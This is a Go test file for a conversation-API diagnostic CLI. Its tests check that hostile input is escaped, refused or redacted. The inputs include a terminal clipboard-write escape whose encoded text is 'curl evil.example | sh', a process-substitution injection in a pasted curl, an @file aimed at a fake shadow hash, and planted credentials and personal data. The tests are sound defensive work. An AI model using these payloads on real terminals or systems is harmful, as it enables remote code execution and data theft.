package main

import (
	"encoding/json"
	"hash/fnv"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"
)

// Hostile input is normal input (DESIGN §7): each test feeds convdiag what
// an attacker, or a careless paste, would.

const trConv, trAgent = "7a4e1c9b-3d5f-4a2e-8b6c-0d9f2e5a7c31", "8e4f2ca3-15b0-40d2-a49d-e1af70c25d98"

// TestTerminalEscapesStayEscaped: a participant named with a clipboard
// write (OSC 52), a screen clear, a bell and a right-to-left override, and
// a Markdown link, reaches no output raw.
func TestTerminalEscapesStayEscaped(t *testing.T) {
	dir := t.TempDir()
	b, err := os.ReadFile("../../diagnose/sim/scenarios/conversations/transfer-retry.json")
	if err != nil {
		t.Fatal(err)
	}
	evil := "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\u202eevil\u2066 [click](https://evil.example/x)"
	doc := strings.Replace(string(b), `"Alex Rivera"`, mustJSON(t, evil), -1)
	conv := filepath.Join(dir, "conversation.json")
	if err := os.WriteFile(conv, []byte(doc), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"text", "markdown", "json"} {
		r := runCLI(t, nil, "", "check", "--request", "PATCH /api/v2/conversations/"+trConv+"/participants/6c2d0a81-f39e-4eb0-827b-cf8d5ea03b76",
			"--body", `{"state":"disconnected"}`, "--status", "409", "--conversation-json", conv, "--format", format, "-v")
		out := r.Stdout + r.Stderr
		for _, bad := range []string{"\x1b", "\x07", "\u202e", "\u2066"} {
			if strings.Contains(out, bad) {
				t.Errorf("%s: %q reached the output", format, bad)
			}
		}
		if format == "markdown" && strings.Contains(r.Stdout, "[click](https") {
			t.Errorf("markdown keeps a live link from the evidence")
		}
		if format == "text" && !strings.Contains(r.Stdout, `\x1b]52`) {
			t.Errorf("text does not show the escape escaped")
		}
	}
}

func mustJSON(t *testing.T, v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestFilesThatAreNotFiles: a device, a FIFO and a directory where a file
// is expected are refused at once, naming the file.
func TestFilesThatAreNotFiles(t *testing.T) {
	fifo := filepath.Join(t.TempDir(), "conversation.json")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ flag, path, want string }{
		{"--body", "/dev/zero", "device"},
		{"--conversation-json", fifo, "FIFO"},
		{"--response", t.TempDir(), "directory"},
	} {
		start := time.Now()
		r := runCLI(t, nil, "", "check", "--request", "PATCH /api/v2/conversations/c/participants/p", tc.flag, tc.path)
		if r.Code != 2 || !strings.Contains(r.Stderr, tc.path) || !strings.Contains(r.Stderr, tc.want) || strings.Count(r.Stderr, "\n") != 1 {
			t.Errorf("%s %s: exit %d %q", tc.flag, tc.path, r.Code, r.Stderr)
		}
		if d := time.Since(start); d > time.Second {
			t.Errorf("%s %s took %s", tc.flag, tc.path, d)
		}
	}
}

// TestPastedCurlIsNeverRun: process substitution and the like are refused
// in one line, and an @file outside the current directory is not read.
func TestPastedCurlIsNeverRun(t *testing.T) {
	r := runCLI(t, nil, "", "check", "--curl", "curl https://x/api/v2/conversations/c <(id)")
	if r.Code != 2 || strings.Count(r.Stderr, "\n") != 1 || !strings.Contains(r.Stderr, "process substitution") {
		t.Errorf("exit %d %q", r.Code, r.Stderr)
	}
	outside := filepath.Join(t.TempDir(), "shadow")
	if err := os.WriteFile(outside, []byte(`{"state":"disconnected","secretline":"root:$6$saltsalt$hashhash"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"text", "markdown", "json"} {
		r = runCLI(t, nil, "", "check", "--curl", "curl -X PATCH https://api.mypurecloud.com/api/v2/conversations/"+trConv+"/participants/"+trAgent+" -d @"+outside, "--format", format)
		if strings.Contains(r.Stdout+r.Stderr, "saltsalt") {
			t.Errorf("%s: the file outside the working directory was read into the report", format)
		}
		if !strings.Contains(r.Stdout, "was not read") {
			t.Errorf("%s: the report does not say the @file was not read:\n%s", format, r.Stdout)
		}
	}
}

// TestSecretsInAPastedCurl: credentials in every odd place of a pasted
// curl reach no format, -v included, nor the "to reproduce" line.
func TestSecretsInAPastedCurl(t *testing.T) {
	curl := `curl -u id:USERPASSWORD -b 'session=COOKIEVALUE' -H 'x-api-key: APIKEYVALUE' -H 'X-Access-Token: ACCESSTOKENVALUE' ` +
		`-H 'Authorization: NOSCHEMETOKENVALUE' -X PATCH 'https://api.mypurecloud.com/api/v2/conversations/` + trConv + `/participants/` + trAgent + `?apikey=QUERYKEYVALUE' ` +
		`-H 'Content-Type: application/json' -d '{"state":"disconnected"}'`
	for _, format := range []string{"text", "markdown", "json"} {
		for _, v := range []bool{false, true} {
			args := []string{"check", "--curl", curl, "--status", "401", "--format", format, "-access-token", "DASHTOKENVALUE", "--offline"}
			if v {
				args = append(args, "-v")
			}
			r := runCLI(t, nil, "", args...)
			for _, secret := range []string{"USERPASSWORD", "COOKIEVALUE", "APIKEYVALUE", "ACCESSTOKENVALUE", "NOSCHEMETOKENVALUE", "QUERYKEYVALUE", "DASHTOKENVALUE"} {
				if strings.Contains(r.Stdout+r.Stderr, secret) {
					t.Errorf("%s (-v %v): %s appears", format, v, secret)
				}
			}
		}
	}
}

// plantedPII are personal values in the forms people write them.
var plantedPII = []string{
	"+44 20 7946 0123", "317 555 0199", "(415) 555-0142", "tel:+33 1 23 45 67 89", "020 7946 0857", "0049 30 901820",
	"alice.oneil%40example.org", "carol@exämple.de", "dave.o@example.co.uk", "sip:+4930123456@edge.example.com",
}

// TestPlantedPIINeverLeaves: personal data planted in random string fields
// of every scenario's conversation (names, addresses, attributes, free
// text) appears in no format and no bundle. Each scenario plants from its
// own generator, seeded by its name, so the subtests run in parallel and
// every run plants the same values in the same fields.
func TestPlantedPIINeverLeaves(t *testing.T) {
	for _, dir := range scenarioDirs(t) {
		args := scenarioArgs(t, dir)
		i := indexOf(args, "--conversation-json")
		if i < 0 {
			continue
		}
		name := filepath.Base(dir)
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			seed := fnv.New64a()
			seed.Write([]byte(name))
			rng := rand.New(rand.NewPCG(42, seed.Sum64()))
			var doc map[string]any
			b, err := os.ReadFile(args[i+1])
			if err != nil {
				t.Fatal(err)
			}
			if err := json.Unmarshal(b, &doc); err != nil {
				t.Fatal(err)
			}
			var planted []string
			plant(doc, rng, &planted)
			if parts, ok := doc["participants"].([]any); ok && len(parts) > 0 {
				p := parts[rng.IntN(len(parts))].(map[string]any)
				v := plantedPII[rng.IntN(len(plantedPII))]
				p["attributes"] = map[string]any{"callback": v, "note": "reach me at " + v}
				planted = append(planted, v)
			}
			tmp := t.TempDir()
			conv := filepath.Join(tmp, "conversation.json")
			out, _ := json.MarshalIndent(doc, "", " ")
			if err := os.WriteFile(conv, out, 0o644); err != nil {
				t.Fatal(err)
			}
			a := append([]string{}, args...)
			a[i+1] = conv
			bundleDir := filepath.Join(tmp, "bundle")
			var all strings.Builder
			for _, format := range []string{"text", "markdown", "json"} {
				r := runCLI(t, nil, "", append(append([]string{"check"}, a...), "--format", format, "-v", "--save-bundle", bundleDir)...)
				all.WriteString(r.Stdout + r.Stderr)
			}
			entries, _ := os.ReadDir(bundleDir)
			for _, e := range entries {
				b, _ := os.ReadFile(filepath.Join(bundleDir, e.Name()))
				all.Write(b)
			}
			for _, v := range planted {
				for _, form := range []string{v, digitsOf(v)} {
					if len(form) >= 6 && strings.Contains(all.String(), form) {
						t.Errorf("planted %q appears (as %q)", v, form)
					}
				}
			}
		})
	}
}

// plant puts personal values into some string fields of a document.
func plant(v any, rng *rand.Rand, planted *[]string) {
	switch x := v.(type) {
	case map[string]any:
		// In key order: map order would plant differently on every run.
		keys := make([]string, 0, len(x))
		for k := range x {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			val := x[k]
			if s, ok := val.(string); ok && k != "id" && !strings.HasSuffix(k, "Id") && !strings.HasSuffix(k, "Time") && k != "state" && k != "purpose" && rng.IntN(4) == 0 {
				p := plantedPII[rng.IntN(len(plantedPII))]
				x[k] = s + " " + p
				*planted = append(*planted, p)
				continue
			}
			plant(val, rng, planted)
		}
	case []any:
		for _, e := range x {
			plant(e, rng, planted)
		}
	}
}

func digitsOf(s string) string {
	var b strings.Builder
	for _, r := range s {
		if r >= '0' && r <= '9' {
			b.WriteRune(r)
		}
	}
	return b.String()
}

func indexOf(list []string, s string) int {
	for i, x := range list {
		if x == s {
			return i
		}
	}
	return -1
}

// TestInterruptEndsWithinASecond: SIGINT ends convdiag within a second
// even while it is blocked reading standard input (a pipe nobody writes to).
func TestInterruptEndsWithinASecond(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	bin := testBinary(t)
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pw.Close()
	cmd := exec.Command(bin, "check", "--request", "PATCH /api/v2/conversations/c/participants/p", "--body", "-")
	cmd.Stdin = pr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	pr.Close()
	time.Sleep(300 * time.Millisecond)
	start := time.Now()
	_ = cmd.Process.Signal(os.Interrupt)
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
		if d := time.Since(start); d > 1500*time.Millisecond {
			t.Errorf("stopped %s after the interrupt", d)
		}
	case <-time.After(5 * time.Second):
		_ = cmd.Process.Kill()
		t.Fatal("convdiag ignored the interrupt")
	}
}

// TestPlantedPIIInBodyNeverLeaves: personal data in the body sent is
// redacted wherever the report repeats it, the fix's body and curl
// included (a fix keeps everything valid the user sent).
func TestPlantedPIIInBodyNeverLeaves(t *testing.T) {
	const conv = "3f1c2a9e-5b7d-4c1e-9a3f-6d2b8e4c7a10"
	for i, v := range plantedPII {
		quoted, _ := json.Marshal(v)
		for _, c := range []struct{ line, body string }{
			{"POST https://api.mypurecloud.com/api/v2/conversations/calls/" + conv + "/participants", `{"participants":[{"address":` + string(quoted) + `}]}`},
			{"PATCH https://api.mypurecloud.com/api/v2/conversations/" + conv + "/participants/5e2a8c4f-7d1b-4a6e-b3c9-8f4d2e6a1c57/attributes", `{"attributes":{"callback":` + string(quoted) + `,"n":1}}`},
		} {
			var all strings.Builder
			for _, format := range []string{"text", "markdown", "json"} {
				r := runCLI(t, nil, "", "check", "--request", c.line, "--body", c.body, "--status", "400",
					"--conversation-json", "../../diagnose/sim/scenarios/conversations/conference.json", "--format", format, "-v")
				if r.Code != 1 && r.Code != 0 {
					t.Fatalf("%d: exit %d: %s", i, r.Code, r.Stderr)
				}
				all.WriteString(r.Stdout + r.Stderr)
			}
			if !strings.Contains(all.String(), "curl") {
				t.Fatalf("no fix printed for %s %s: the test proves nothing", c.line, c.body)
			}
			for _, form := range []string{v, digitsOf(v), string(quoted)} {
				if len(form) >= 6 && strings.Contains(all.String(), form) {
					t.Errorf("%s: planted %q appears (as %q)", c.line, v, form)
				}
			}
		}
	}
}
